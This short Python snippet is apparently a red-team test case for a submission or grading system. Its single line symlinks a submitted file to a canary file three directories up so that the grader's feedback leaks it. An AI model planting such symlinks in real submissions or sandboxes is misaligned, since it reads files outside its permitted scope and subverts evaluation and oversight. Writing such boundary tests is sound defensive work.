# /// attack
# does = "has the feedback bring a file of the machine to the exchange"
# wall = "feedback"
# ///
# %% hand in
(folder / "submission_secret.txt").symlink_to("../../../canary.txt")
